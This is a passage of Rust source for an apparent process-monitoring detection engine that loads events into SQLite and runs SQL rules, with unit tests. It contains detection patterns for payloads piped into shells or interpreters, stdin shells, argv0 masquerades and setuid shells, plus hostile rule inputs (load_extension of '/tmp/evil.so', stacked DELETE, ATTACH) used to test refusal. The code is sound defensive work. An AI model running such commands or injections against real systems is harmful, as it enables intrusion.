        let (rules, next, watchdog, cap) = (batch.rules, &counter, &self.watchdog, batch.cap);
        let shared = rows >= PARALLEL_MIN_ROWS;
        let mut results = match self.readers.as_mut_slice() {
            [] => Vec::new(),
            [first, rest @ ..] if shared && !rest.is_empty() => std::thread::scope(|s| {
                self.stats.shared_batches.inc();
                let helpers: Vec<_> = rest
                    .iter_mut()
                    .enumerate()
                    .filter_map(|(k, reader)| {
                        // Without a thread, this reader's share goes to the others.
                        std::thread::Builder::new()
                            .name("daemoneye-rules".to_owned())
                            .spawn_scoped(s, move || reader.run(k + 1, watchdog, batch, next))
                            .ok()
                    })
                    .collect();
                let mut all = first.run(0, watchdog, batch, next);
                for h in helpers {
                    match h.join() {
                        Ok(found) => all.extend(found),
                        Err(panic) => std::panic::resume_unwind(panic),
                    }
                }
                all
            }),
            // One connection, or a batch too small to share out.
            [first, ..] => first.run(0, watchdog, batch, next),
        };
        // The heap cap is the process's: a rule may have failed for another's
        // memory. Alone, it fails only for its own.
        if let Some(first) = self.readers.first() {
            for (i, result) in &mut results {
                if result.as_ref().is_err_and(RunError::out_of_memory) {
                    *result = first.run_one(0, watchdog, &rules[*i], cap);
                }
            }
        }
        results.sort_unstable_by_key(|(i, _)| *i);
        let mut out = Vec::new();
        let now = Instant::now();
        let mut failing = 0_i64;
        for (i, result) in results {
            self.stats.rule_runs.inc();
            match result {
                Ok(found) => {
                    self.stats.matches.add_usize(found.len());
                    out.extend(found);
                }
                Err(err) => {
                    failing += 1;
                    self.stats.rule_failures.inc();
                    if err.interrupted() {
                        self.stats.rule_timeouts.inc();
                    }
                    if let Some(failures) = self.failures[i].note(now) {
                        let rule = &self.rules[i].id;
                        let total = self.failures[i].total;
                        tracing::warn!(
                            %rule,
                            error = %err,
                            failures,
                            total,
                            "rule failed; skipped for this batch ({failures} failures since the last warning, logged once a minute per rule)"
                        );
                    }
                }
            }
        }
        self.stats.failing_rules.set(failing);
        out
    }

    fn load(
        &mut self,
        rows: &[ProcessRow],
        batch: Option<Batch<'_>>,
    ) -> Result<(), rusqlite::Error> {
        let filling = Tables::filled_by(rows, batch);
        let tx = self.loader.transaction()?;
        // Only the tables the last batch filled have rows to clear: a batch
        // of processes clears one table, not four (clearing an empty one
        // still rewrites, and journals, its root page). Compiled once.
        for (table, delete) in Tables::DELETES {
            if self.filled.holds(table) {
                tx.prepare_cached(delete)?.execute([])?;
            }
        }
        // Until the commit, the tables may hold either batch's rows (a
        // failed load rolls back to the last batch's).
        self.filled = self.filled.and(filling);
        match batch {
            None => {}
            Some(Batch::Performance(samples)) => {
                let mut insert = tx.prepare_cached(&PERFORMANCE_INSERT)?;
                for s in samples {
                    insert.execute(s.params().as_slice())?;
                }
            }
            Some(Batch::Network(connections)) => {
                let mut insert = tx.prepare_cached(&CONNECTIONS_INSERT)?;
                for c in connections {
                    insert.execute(c.params().as_slice())?;
                }
            }
            Some(Batch::Files(files)) => {
                let mut insert = tx.prepare_cached(&FILES_INSERT)?;
                for f in files {
                    let (dir, file_name) = match f.path().rsplit_once('/') {
                        Some((dir, name)) => (if dir.is_empty() { "/" } else { dir }, name),
                        None => ("", f.path()),
                    };
                    let mode = f.mode();
                    let derived: [&dyn rusqlite::ToSql; 4] = [
                        &file_name,
                        &dir,
                        &mode.map(|m| m & 0o4000 != 0),
                        &mode.map(|m| m & 0o2000 != 0),
                    ];
                    let stored = f.params();
                    let all: Vec<&dyn rusqlite::ToSql> =
                        stored.iter().chain(derived.iter()).copied().collect();
                    insert.execute(all.as_slice())?;
                }
            }
        }
        {
            let mut insert = tx.prepare_cached(&INSERT)?;
            // One buffer each for every row's joined and JSON argv.
            let (mut cmdline, mut argv) = (String::new(), Vec::new());
            for r in rows {
                cmdline.clear();
                join_into(&mut cmdline, &r.argv);
                argv.clear();
                if serde_json::to_writer(&mut argv, &r.argv).is_err() {
                    argv.clear();
                    argv.extend_from_slice(b"[]");
                }
                // Only `argv` can outgrow what rules may read (its JSON
                // escapes control characters six-fold): past it, NULL for
                // this process, rather than a failure of every rule reading
                // it over the whole batch.
                let argv = std::str::from_utf8(&argv)
                    .ok()
                    .filter(|a| a.len() <= MAX_VALUE_LEN);
                let (exe_name, exe_dir) = match r.exe.as_deref().and_then(|e| e.rsplit_once('/')) {
                    Some((dir, name)) => (Some(name), Some(if dir.is_empty() { "/" } else { dir })),
                    None => (None, None),
                };
                let argv0 = Argv0::of(r, exe_name);
                // In the order of `COLUMNS`.
                insert.execute(params![
                    r.event_type,
                    r.name,
                    exe_name,
                    exe_dir,
                    r.exe,
                    cmdline,
                    line_pipes_to_interpreter(&cmdline),
                    r.parent_name,
                    argv0.kernel_thread,
                    argv0.differs,
                    argv0.stdin_shell,
                    argv0.name,
                    r.uid,
                    r.euid,
                    r.exe_deleted,
                    r.exe_replaced,
                    r.file_exists,
                    r.accessible,
                    r.exe_dir_user_writable,
                    r.pid,
                    r.process_key,
                    r.ppid,
                    r.start_time,
                    r.observed_at,
                    r.parent_exe,
                    r.parent_cmdline,
                    r.exe_hash,
                    r.container_id,
                    argv,
                ])?;
            }
        }
        tx.commit()?;
        self.filled = filling;
        Ok(())
    }
}

/// A set of the engine's tables (a bit each), for [`RuleEngine::load`] to
/// clear only those that hold rows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Tables(u8);

impl Tables {
    const PROCESSES: Self = Self(1);
    const PERFORMANCE: Self = Self(2);
    const CONNECTIONS: Self = Self(4);
    const FILE_EVENTS: Self = Self(8);
    /// Every table, as a freshly opened engine must assume.
    const ALL: Self = Self(15);

    /// Each table with the statement that clears it.
    const DELETES: [(Self, &'static str); 4] = [
        (Self::PROCESSES, "DELETE FROM processes"),
        (Self::PERFORMANCE, "DELETE FROM performance"),
        (Self::CONNECTIONS, "DELETE FROM connections"),
        (Self::FILE_EVENTS, "DELETE FROM file_events"),
    ];

    const NONE: Self = Self(0);

    /// Whether every table of `other` is in this set.
    const fn holds(self, other: Self) -> bool {
        self.0 & other.0 == other.0
    }

    /// The tables of both sets.
    const fn and(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    /// The tables a batch of `processes` and `batch` fills.
    fn filled_by(processes: &[ProcessRow], batch: Option<Batch<'_>>) -> Self {
        let of_batch = match batch {
            Some(b) if b.len() == 0 => Self::NONE,
            Some(Batch::Performance(_)) => Self::PERFORMANCE,
            Some(Batch::Network(_)) => Self::CONNECTIONS,
            Some(Batch::Files(_)) => Self::FILE_EVENTS,
            None => Self::NONE,
        };
        let of_processes = if processes.is_empty() {
            Self::NONE
        } else {
            Self::PROCESSES
        };
        of_batch.and(of_processes)
    }
}

/// What the rules' `argv0_*` and `stdin_shell` columns say of a row.
#[derive(Debug, PartialEq, Eq)]
struct Argv0<'a> {
    name: Option<&'a str>,
    kernel_thread: bool,
    differs: bool,
    stdin_shell: bool,
}

/// Shells that read their program from stdin when given none.
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish",
];

impl<'a> Argv0<'a> {
    fn of(r: &'a ProcessRow, exe_name: Option<&str>) -> Self {
        let Some(argv0) = r.argv.first().map(String::as_str) else {
            return Self {
                name: None,
                kernel_thread: false,
                differs: false,
                stdin_shell: false,
            };
        };
        let bracketed = argv0.starts_with('[') && argv0.ends_with(']') && argv0.len() > 2;
        let name = if bracketed {
            argv0
        } else {
            let first = argv0.split([' ', ':']).next().unwrap_or(argv0);
            let base = first.rsplit('/').next().unwrap_or(first);
            base.strip_prefix('-').unwrap_or(base)
        };
        // `comm` is at most 15 bytes: a longer name matches its start.
        let is_comm = name == r.name
            || (r.name.len() == 15 && name.starts_with(r.name.as_str()))
            || r.name.is_empty();
        let differs = !bracketed && !name.is_empty() && !is_comm && Some(name) != exe_name;
        let stdin_shell = SHELLS.contains(&r.name.as_str()) && !argv0.starts_with('-') && {
            let mut reads_stdin = true;
            for a in &r.argv[1..] {
                if a == "-s" {
                    break;
                }
                let flags = a.strip_prefix('-').filter(|f| !f.starts_with('-'));
                let script_or_command = !a.starts_with('-')
                    || flags.is_some_and(|f| f.contains(['c', 'i', 'l']))
                    || a == "--login";
                if script_or_command {
                    reads_stdin = false;
                    break;
                }
            }
            reads_stdin
        };
        Self {
            name: Some(name),
            kernel_thread: bracketed && r.exe.is_some(),
            differs,
            stdin_shell,
        }
    }
}

/// `argv` joined by spaces, appended to `out`.
fn join_into(out: &mut String, argv: &[String]) {
    for (i, a) in argv.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        out.push_str(a);
    }
}

/// Interpreters a downloaded or decoded payload is piped into.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl",
    "ruby", "php", "node",
];

/// Whether a command line pipes into a shell or interpreter: a `|` followed
/// (after `sudo`, `env` and options) by a word whose file name is a shell
/// or interpreter (sh, bash, dash, zsh, ksh, ash, busybox, python, perl,
/// ruby, php, node; `| sh`, `|bash -s`, `| sudo /bin/bash`, `| python3.11 -`).
pub fn pipes_to_interpreter(argv: &[String]) -> bool {
    line_pipes_to_interpreter(&argv.join(" "))
}

/// [`pipes_to_interpreter`] of a command line already joined.
fn line_pipes_to_interpreter(line: &str) -> bool {
    line.split('|').skip(1).any(|segment| {
        segment
            .split_whitespace()
            .find(|w| !matches!(*w, "sudo" | "env" | "-E") && !w.starts_with('-'))
            .map(|w| w.rsplit('/').next().unwrap_or(w))
            .is_some_and(|name| {
                let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                INTERPRETERS.contains(&name) || INTERPRETERS.contains(&base)
            })
    })
}

/// Runs `rule` on `conn`: its matches, at most `cap` of them.
fn run_rule(conn: &Connection, rule: &Rule, cap: usize) -> Result<Vec<Match>, RunError> {
    let mut stmt = conn.prepare_cached(&rule.sql)?;
    let names: Vec<String> = stmt
        .column_names()
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    let pid_at = names.iter().position(|n| n == "pid");
    let key_at = names.iter().position(|n| n == "process_key");
    let path_at = names.iter().position(|n| n == "path");
    let mut rows = stmt.query([])?;
    let mut out = Vec::new();
    while let Some(row) = rows.next()? {
        if out.len() == cap {
            return Err(RunError::TooManyRows(cap));
        }
        let Some(pid) = pid_at.and_then(|i| row.get::<_, Option<u32>>(i).ok().flatten()) else {
            continue;
        };
        let text =
            |at: Option<usize>| at.and_then(|i| row.get::<_, Option<String>>(i).ok().flatten());
        out.push(Match {
            rule_id: rule.id.clone(),
            pid,
            process_key: text(key_at),
            path: text(path_at),
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;
    use crate::rules::Severity;

    #[test]
    fn the_table_has_the_vocabulary_columns_in_binding_order() {
        let conn = open_schema().unwrap();
        let got = daemoneye_store::table_columns(&conn, "processes").unwrap();
        assert_eq!(got.len(), COLUMNS.len());
        for ((name, ty), want) in got.iter().zip(COLUMNS) {
            assert_eq!(name, want);
            let v = process_column(want).unwrap_or_else(|| panic!("{want} not in vocabulary"));
            assert_eq!(ty, v.ty.sqlite(), "{want}");
        }
    }

    #[test]
    fn the_connections_and_file_tables_have_their_vocabulary_in_order() {
        let conn = open_schema().unwrap();
        for (table, list) in [("connections", NETWORK), ("file_events", FILE)] {
            assert_columns(&conn, table, list);
        }
        assert_eq!(
            RuleKind::of("SELECT c.pid FROM Connections c JOIN processes p USING (pid)"),
            RuleKind::Network
        );
        assert_eq!(
            RuleKind::of("SELECT f.pid FROM file_events f JOIN connections c USING (pid)"),
            RuleKind::File
        );
        assert_eq!(
            RuleKind::of("SELECT 0 AS pid FROM performance"),
            RuleKind::Performance
        );
        assert_eq!(RuleKind::of("SELECT pid FROM processes"), RuleKind::Process);
    }

    #[test]
    fn a_file_rule_reads_the_derived_columns_and_joins_the_process_that_wrote() {
        use collector_core::{FileOperation, FilesystemEvent};
        let rule = rule(
            "setuid-in-bin",
            "SELECT p.pid, p.process_key FROM file_events f \
             JOIN processes p ON p.pid = f.pid \
             WHERE f.setuid = 1 AND f.setgid = 0 AND f.dir = '/usr/bin' \
             AND f.file_name = 'sh' AND p.name = 'chmod'",
        );
        let mut engine = RuleEngine::new(vec![rule]).unwrap();
        assert!(engine.has_file_rules() && !engine.has_network_rules());
        let at = SystemTime::UNIX_EPOCH;
        let event = |path: &str, mode: u32| {
            FileEventRow::new(&FilesystemEvent {
                pid: Some(9),
                permissions: Some(mode),
                ..FilesystemEvent::new(path, FileOperation::Attrib, at)
            })
        };
        let chmod = ProcessRow {
            pid: 9,
            name: "chmod".into(),
            process_key: Some(key(9)),
            ..ProcessRow::default()
        };
        let files = [event("/usr/bin/sh", 0o4755), event("/usr/bin/sh", 0o755)];
        let found = engine
            .evaluate_batch(Batch::Files(&files), std::slice::from_ref(&chmod))
            .unwrap();
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(
            (found[0].pid, found[0].process_key.clone()),
            (9, Some(key(9)))
        );
        // Not a process rule: a batch of processes does not run it.
        assert!(engine.evaluate(&[chmod]).unwrap().is_empty());
    }

    #[test]
    fn a_batch_sees_only_its_own_rows_in_every_table() {
        use collector_core::{FileOperation, FilesystemEvent};
        let rule = rule(
            "chmod-wrote",
            "SELECT p.pid, p.process_key FROM file_events f \
             JOIN processes p ON p.pid = f.pid WHERE p.name = 'chmod'",
        );
        let mut engine = RuleEngine::new(vec![rule]).unwrap();
        let files = [FileEventRow::new(&FilesystemEvent {
            pid: Some(9),
            ..FilesystemEvent::new("/etc/passwd", FileOperation::Attrib, SystemTime::UNIX_EPOCH)
        })];
        let chmod = ProcessRow {
            pid: 9,
            name: "chmod".into(),
            process_key: Some(key(9)),
            ..ProcessRow::default()
        };
        let both = engine
            .evaluate_batch(Batch::Files(&files), std::slice::from_ref(&chmod))
            .unwrap();
        assert_eq!(both.len(), 1, "{both:?}");
        // A batch of processes, then file events without their process:
        // neither the processes nor the file events of an earlier batch
        // are left for the rule to join.
        assert!(engine
            .evaluate(std::slice::from_ref(&chmod))
            .unwrap()
            .is_empty());
        let alone = engine.evaluate_batch(Batch::Files(&files), &[]).unwrap();
        assert!(alone.is_empty(), "an earlier batch's process: {alone:?}");
        let no_files = engine
            .evaluate_batch(Batch::Files(&[]), std::slice::from_ref(&chmod))
            .unwrap();
        assert!(
            no_files.is_empty(),
            "an earlier batch's file event: {no_files:?}"
        );
    }

    #[test]
    fn every_table_listed_is_the_engines_with_those_columns() {
        let conn = open_schema().unwrap();
        for (table, columns) in tables() {
            assert_columns(&conn, table, columns);
        }
    }

    #[test]
    fn the_history_tables_have_the_vocabulary_columns_in_order() {
        use collector_core::vocabulary::{ANCESTRY, EXEC_LINEAGE, LIFECYCLE};
        let conn = open_schema().unwrap();
        for (table, list) in [
            ("ancestry", ANCESTRY),
            ("exec_lineage", EXEC_LINEAGE),
            ("lifecycle_events", LIFECYCLE),
        ] {
            assert_columns(&conn, table, list);
            assert_eq!(
                RuleKind::of(&format!("SELECT pid FROM {table}")),
                RuleKind::Process
            );
        }
    }

    /// `table` in the engine's schema has `columns`, with their types, in
    /// their order.
    fn assert_columns<'a>(
        conn: &Connection,
        table: &str,
        columns: impl IntoIterator<Item = &'a collector_core::vocabulary::Column>,
    ) {
        let got = daemoneye_store::table_columns(conn, table).unwrap();
        let want: Vec<(String, String)> = columns
            .into_iter()
            .map(|c| (c.name.to_owned(), c.ty.sqlite().to_owned()))
            .collect();
        assert_eq!(got, want, "{table}");
    }

    fn key(pid: u32) -> String {
        collector_core::ProcessKey::new(collector_core::BootId::from_bytes([7; 16]), pid, 1)
            .to_string()
    }

    fn event(
        pid: u32,
        ppid: u32,
        ty: collector_core::ProcessEventType,
        name: &str,
        exe: &str,
    ) -> ProcessEvent {
        let mut e = ProcessEvent::new(pid, name);
        e.event_type = ty;
        e.ppid = Some(ppid);
        e.accessible = true;
        e.executable_path = Some(exe.to_owned());
        e.command_line = vec![name.to_owned()];
        e.process_key = Some(collector_core::ProcessKey::new(
            collector_core::BootId::from_bytes([7; 16]),
            pid,
            1,
        ));
        e
    }

    /// The rows of `sql` (six columns, one parameter), sorted.
    fn rows_of(conn: &Connection, sql: &str, value: &rusqlite::types::Value) -> Vec<String> {
        let mut st = conn.prepare(sql).unwrap();
        let mut all: Vec<String> = st
            .query_map([value], |r| {
                let cells: Vec<String> = (0..6)
                    .map(|i| format!("{:?}", r.get::<_, rusqlite::types::Value>(i).unwrap()))
                    .collect();
                Ok(cells.join("|"))
            })
            .unwrap()
            .map(Result::unwrap)
            .collect();
        all.sort_unstable();
        all
    }

    #[test]
    fn every_lookup_of_the_history_tables_returns_what_a_scan_does() {
        use collector_core::ProcessEventType::{Exec, Exit, Fork, Snapshot};
        use rusqlite::types::Value;
        let mut engine = RuleEngine::new(vec![rule("r", "SELECT pid FROM processes")]).unwrap();
        *engine.history_mut() = History::with_capacity(40, 50);
        let mut events = vec![event(1, 0, Snapshot, "init", "/sbin/init")];
        // Short-lived children and grandchildren, some running a third
        // image, some exiting, enough to evict processes (their names,
        // descendants and lineage with them) and drop lifecycle events.
        for pid in 10..90_u32 {
            let parent = if pid % 3 == 0 { pid - 1 } else { 1 };
            events.push(event(pid, parent, Fork, "sh", "/bin/sh"));
            events.push(event(pid, parent, Exec, "true", "/bin/true"));
            if pid % 4 == 0 {
                events.push(event(pid, parent, Exec, "env", "/usr/bin/env"));
            }
            if pid % 5 != 0 {
                events.push(event(pid, parent, Exit, "true", "/bin/true"));
            }
        }
        engine.observe(&events);
        assert!(engine.history().counters().evicted.get() > 0);
        assert!(engine.history().counters().lifecycle_dropped.get() > 0);
        let conn = &engine.readers[0].conn;
        let mut looked_up = 0;
        for (table, columns, indexed) in [
            (
                "ancestry",
                "process_key, depth, ancestor_key, ancestor_pid, ancestor_name, ancestor_exited",
                &["process_key", "ancestor_key", "ancestor_name"][..],
            ),
            (
                "exec_lineage",
                "process_key, seq, pid, exe, name, cmdline",
                &["process_key", "name"][..],
            ),
            (
                "lifecycle_events",
                "seq, process_key, event_type, pid, ppid, name",
                &["process_key", "ppid"][..],
            ),
        ] {
            for column in indexed {
                let values: Vec<Value> = conn
                    .prepare(&format!("SELECT DISTINCT {column} FROM {table}"))
                    .unwrap()
                    .query_map([], |r| r.get(0))
                    .unwrap()
                    .map(Result::unwrap)
                    .collect();
                assert!(values.len() > 1, "{table}.{column}: {values:?}");
                let plan = |sql: &str| -> String {
                    let mut st = conn.prepare(&format!("EXPLAIN QUERY PLAN {sql}")).unwrap();
                    let rows = st
                        .query_map([&values[0]], |r| r.get::<_, String>(3))
                        .unwrap();
                    rows.map(Result::unwrap).collect::<Vec<_>>().join("; ")
                };
                let lookup = plan(&format!("SELECT * FROM {table} WHERE {column} = ?1"));
                let scan = plan(&format!("SELECT * FROM {table} WHERE +{column} = ?1"));
                assert!(!lookup.contains("INDEX -1"), "{lookup}");
                assert!(scan.contains("INDEX -1"), "{scan}");
                for v in &values {
                    // `+column` is no column to SQLite: the table scans.
                    let scanned = rows_of(
                        conn,
                        &format!("SELECT {columns} FROM {table} WHERE +{column} = ?1"),
                        v,
                    );
                    let found = rows_of(
                        conn,
                        &format!("SELECT {columns} FROM {table} WHERE {column} = ?1"),
                        v,
                    );
                    assert!(!scanned.is_empty(), "{table}.{column} = {v:?}");
                    assert_eq!(found, scanned, "{table}.{column} = {v:?}");
                    looked_up += 1;
                }
            }
        }
        assert!(looked_up > 50, "{looked_up}");
        // A lookup of what is not there, or of NULL, finds nothing.
        for sql in [
            "SELECT count(*) FROM ancestry WHERE ancestor_name = 'nginx'",
            "SELECT count(*) FROM ancestry WHERE process_key = NULL",
            "SELECT count(*) FROM exec_lineage WHERE name = 'sh' AND process_key = 'x'",
            "SELECT count(*) FROM lifecycle_events WHERE ppid = 4294967296",
        ] {
            let n: i64 = conn.query_row(sql, [], |r| r.get(0)).unwrap();
            assert_eq!(n, 0, "{sql}");
        }
        // 11 exited early and was evicted (so was its lifecycle): it is in
        // no table, neither as a process nor as 12's parent, scanned or
        // looked up.
        assert!(engine.history().node(&key(11)).is_none());
        for sql in [
            "SELECT count(*) FROM ancestry WHERE process_key = ?1 OR ancestor_key = ?1",
            "SELECT count(*) FROM ancestry WHERE +process_key = ?1 OR +ancestor_key = ?1",
            "SELECT count(*) FROM exec_lineage WHERE process_key = ?1",
            "SELECT count(*) FROM lifecycle_events WHERE process_key = ?1 OR +process_key = ?1",
        ] {
            let n: i64 = conn.query_row(sql, [key(11)], |r| r.get(0)).unwrap();
            assert_eq!(n, 0, "{sql}");
        }
        let h = engine.history();
        assert!(h.len() <= 40 && h.lifecycle_len() <= 50);
    }

    #[test]
    fn the_ancestry_of_a_three_level_tree_whose_middle_process_exited_is_whole() {
        use collector_core::ProcessEventType::{Exec, Exit, Fork, Snapshot};
        let mut engine = RuleEngine::new(vec![rule(
            "orphan-of-sh",
            "SELECT pid, process_key FROM processes WHERE process_key IN \
             (SELECT process_key FROM ancestry WHERE ancestor_name = 'sh' AND ancestor_exited = 1)",
        )])
        .unwrap();
        assert!(engine.refused().is_empty(), "{:?}", engine.refused());
        // systemd (1) > bash (100) > bash forks 200, which execs sh > sh
        // forks 300, which execs sleep; then 200 exits and 300 is
        // reparented to 1.
        engine.observe(&[
            event(100, 1, Snapshot, "bash", "/usr/bin/bash"),
            event(1, 0, Snapshot, "systemd", "/usr/lib/systemd/systemd"),
        ]);
        engine.observe(&[
            event(200, 100, Fork, "bash", "/usr/bin/bash"),
            event(200, 100, Exec, "sh", "/usr/bin/dash"),
            event(300, 200, Fork, "sh", "/usr/bin/dash"),
            event(300, 200, Exec, "sleep", "/usr/bin/sleep"),
        ]);
        engine.observe(&[event(200, 100, Exit, "sh", "/usr/bin/dash")]);
        engine.observe(&[event(300, 1, Snapshot, "sleep", "/usr/bin/sleep")]);
        let chain: Vec<(i64, u32, String, String, bool)> = engine
            .loader
            .prepare(
                "SELECT depth, ancestor_pid, ancestor_name, ancestor_exe, ancestor_exited \
                 FROM ancestry WHERE process_key = ?1 ORDER BY depth",
            )
            .unwrap()
            .query_map([key(300)], |r| {
                Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?))
            })
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(
            chain,
            [
                (1, 200, "sh".into(), "/usr/bin/dash".into(), true),
                (2, 100, "bash".into(), "/usr/bin/bash".into(), false),
                (
                    3,
                    1,
                    "systemd".into(),
                    "/usr/lib/systemd/systemd".into(),
                    false
                ),
            ]
        );
        assert_eq!(
            engine.history().ancestors(&key(300)),
            [key(200), key(100), key(1)]
        );
        let lineage: Vec<(i64, String)> = engine
            .loader
            .prepare("SELECT seq, name FROM exec_lineage WHERE process_key = ?1 ORDER BY seq")
            .unwrap()
            .query_map([key(200)], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(lineage, [(0, "bash".into()), (1, "sh".into())]);
        let events: Vec<(String, u32)> = engine
            .loader
            .prepare("SELECT event_type, pid FROM lifecycle_events ORDER BY seq")
            .unwrap()
            .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        let want = [
            ("fork", 200),
            ("exec", 200),
            ("fork", 300),
            ("exec", 300),
            ("exit", 200),
        ];
        assert_eq!(events, want.map(|(t, p)| (t.to_owned(), p)));
        // A rule reads the view through its read-only connection.
        let sleep = ProcessRow {
            pid: 300,
            process_key: Some(key(300)),
            name: "sleep".into(),
            ..ProcessRow::default()
        };
        let other = ProcessRow {
            pid: 100,
            process_key: Some(key(100)),
            name: "bash".into(),
            ..ProcessRow::default()
        };
        let found = engine.evaluate(&[sleep, other]).unwrap();
        assert_eq!(found.iter().map(|m| m.pid).collect::<Vec<_>>(), [300]);
    }

    #[test]
    fn the_history_stays_within_its_bounds_and_counts_what_it_drops() {
        use collector_core::ProcessEventType::{Exec, Exit};
        let mut engine = RuleEngine::new(vec![rule("r", "SELECT pid FROM processes")]).unwrap();
        let mut h = engine.history_mut();
        *h = History::with_capacity(3, 4);
        for pid in 10..13 {
            h.observe(&event(pid, 1, Exec, "x", "/usr/bin/x"));
        }
        h.observe(&event(11, 1, Exit, "x", "/usr/bin/x"));
        // Full: the exited one goes first, then the oldest.
        h.observe(&event(13, 1, Exec, "x", "/usr/bin/x"));
        h.observe(&event(14, 1, Exec, "x", "/usr/bin/x"));
        assert_eq!(h.len(), 3);
        assert_eq!(h.counters().evicted.get(), 2);
        assert_eq!(h.counters().lifecycle_dropped.get(), 2);
        assert!(h.node(&key(10)).is_none() && h.node(&key(11)).is_none());
        drop(h);
        let count = |sql: &str| -> i64 { engine.loader.query_row(sql, [], |r| r.get(0)).unwrap() };
        // One image each: no lineage.
        assert_eq!(count("SELECT count(*) FROM exec_lineage"), 0);
        assert_eq!(count("SELECT count(*) FROM lifecycle_events"), 4);
        assert_eq!(count("SELECT min(seq) FROM lifecycle_events"), 2);
    }

    #[test]
    fn argv0_columns_tell_masquerades_and_stdin_shells() {
        let of = |name: &str, exe: &str, argv: &[&str]| {
            let r = ProcessRow {
                name: name.into(),
                exe: Some(exe.into()),
                argv: argv.iter().map(ToString::to_string).collect(),
                ..ProcessRow::default()
            };
            let exe_name = exe.rsplit('/').next();
            let a = Argv0::of(&r, exe_name);
            (
                a.name.map(str::to_owned),
                a.kernel_thread,
                a.differs,
                a.stdin_shell,
            )
        };
        let some = |s: &str| Some(s.to_owned());
        assert_eq!(
            of("sleep", "/usr/bin/sleep", &["[kworker/0:7]", "60"]),
            (some("[kworker/0:7]"), true, false, false)
        );
        assert_eq!(
            of("sleep", "/usr/bin/sleep", &["cron", "60"]),
            (some("cron"), false, true, false)
        );
        for (name, exe, argv) in [
            ("sshd", "/usr/sbin/sshd", &["sshd: user@pts/0"][..]),
            ("bash", "/usr/bin/bash", &["-bash"]),
            ("sh", "/usr/bin/dash", &["sh", "-c", "id"]),
            ("python3", "/usr/bin/python3.11", &["python3", "x.py"]),
            ("nginx", "/usr/sbin/nginx", &["nginx: worker process"]),
            (
                "systemd-journal",
                "/usr/lib/systemd/systemd-journald",
                &["/usr/lib/systemd/systemd-journald"],
            ),
            ("deploy.sh", "/usr/bin/bash", &["/bin/bash", "./deploy.sh"]),
            ("x", "/tmp/x", &["./x"]),
        ] {
            let (_, kthread, differs, _) = of(name, exe, argv);
            assert!(!kthread && !differs, "{argv:?}");
        }
        for argv in [
            &["sh"][..],
            &["bash", "-s", "--", "--flag"],
            &["bash", "-e"],
            &["sh", "-s", "x"],
        ] {
            assert!(of(argv[0], "/usr/bin/bash", argv).3, "{argv:?}");
        }
        for argv in [
            &["sh", "-c", "id"][..],
            &["bash", "x.sh"],
            &["-bash"],
            &["bash", "-i"],
            &["bash", "-ec", "x"],
            &["bash", "--login"],
        ] {
            let name = argv[0].trim_start_matches('-');
            assert!(!of(name, "/usr/bin/bash", argv).3, "{argv:?}");
        }
    }

    fn rule(id: &str, sql: &str) -> Rule {
        Rule {
            id: id.to_owned(),
            name: id.to_owned(),
            description: String::new(),
            severity: Severity::High,
            sql: sql.to_owned(),
            tags: Vec::new(),
            mitre: Vec::new(),
            origin: "test.toml".to_owned(),
        }
    }

    #[test]
    fn writes_attach_pragma_extensions_and_stacked_statements_are_refused() {
        let cases = [
            (
                "INSERT INTO processes (pid, name) VALUES (1, 'x')",
                "writing to processes",
            ),
            ("DELETE FROM processes", "writing to processes"),
            ("UPDATE processes SET name = 'x'", "writing to processes"),
            ("ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH"),
            ("PRAGMA writable_schema = 1", "PRAGMA"),
            (
                "SELECT load_extension('/tmp/evil.so') AS pid",
                "load_extension",
            ),
            (
                "SELECT pid FROM processes; DELETE FROM processes",
                "more than one statement",
            ),
            ("DROP TABLE processes", "only reading is allowed"),
            ("SELEC pid FROM processes", "invalid SQL"),
            ("SELECT name FROM processes", "`pid` column"),
            ("SELECT pid FROM nowhere", "invalid SQL"),
        ];
        for (sql, why) in cases {
            let err = validate(&rule("r", sql)).unwrap_err();
            assert!(err.reason.contains(why), "{sql}: {err}");
            assert_eq!((err.origin.as_str(), err.rule.as_str()), ("test.toml", "r"));
        }
        validate(&rule(
            "ok",
            "SELECT pid, name FROM processes WHERE exe LIKE '/tmp/%'",
        ))
        .unwrap();
    }

    #[test]
    fn a_refused_rule_leaves_the_others_running() {
        let mut engine = RuleEngine::new(vec![
            rule("bad", "DELETE FROM processes"),
            rule(
                "tmp",
                "SELECT pid, process_key FROM processes WHERE exe_dir = '/tmp'",
            ),
            rule("tmp", "SELECT pid FROM processes"),
        ])
        .unwrap();
        assert_eq!(engine.rules().len(), 1);
        assert_eq!(engine.refused().len(), 2);
        assert!(engine.refused()[1].reason.contains("duplicate"));
        let rows = [
            ProcessRow {
                pid: 7,
                process_key: Some("k7".into()),
                name: "x".into(),
                exe: Some("/tmp/x".into()),
                ..ProcessRow::default()
            },
            ProcessRow {
                pid: 8,
                name: "ls".into(),
                exe: Some("/usr/bin/ls".into()),
                ..ProcessRow::default()
            },
        ];
        let m = engine.evaluate(&rows).unwrap();
        assert_eq!(
            m,
            vec![Match {
                rule_id: "tmp".into(),
                pid: 7,
                process_key: Some("k7".into()),
                path: None,
            }]
        );
        // The table holds only the current batch.
        assert!(engine.evaluate(&rows[1..]).unwrap().is_empty());
    }

    fn rows(pids: std::ops::Range<u32>, exe: &str) -> Vec<ProcessRow> {
        pids.map(|pid| ProcessRow {
            pid,
            name: "x".into(),
            exe: Some(exe.to_owned()),
            argv: vec!["x".into(), "-v".into()],
            ..ProcessRow::default()
        })
        .collect()
    }

    #[test]
